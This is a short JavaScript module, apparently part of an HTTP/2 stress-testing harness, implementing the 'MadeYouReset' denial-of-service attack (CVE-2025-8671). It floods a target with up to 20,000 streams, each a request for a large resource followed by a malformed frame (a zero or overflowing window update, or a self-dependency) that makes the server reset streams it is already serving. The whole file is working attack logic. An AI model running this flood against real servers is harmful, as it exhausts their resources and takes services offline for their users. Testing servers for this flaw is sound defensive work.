// CVE-2025-8671: the service resets its own streams, after the request is whole.
import * as h2 from '../../e2e/frames.mjs';
import { flood } from '../bouts.mjs';
import { LARGE } from '../paths.mjs';

const most = 20_000; // what lies in socket buffers counts
const spoils = [
  (stream) => h2.windowUpdate(stream, 0),
  (stream) => h2.windowUpdate(stream, 0x7fffffff),
  (stream) => h2.dependsOn(stream, stream),
];
let n = 0;

export default {
  name: 'MadeYouReset',
  does: 'asks, and has the service reset the stream',
  unit: 'streams',
  pause_ms: 100,
  most,
  longest_s: 3,
  bout: (target) => {
    const spoil = spoils[n++ % spoils.length];
    return flood(target, { most, piece: (i) => Buffer.concat([h2.get(2 * i + 1, LARGE), spoil(2 * i + 1)]) });
  },
};
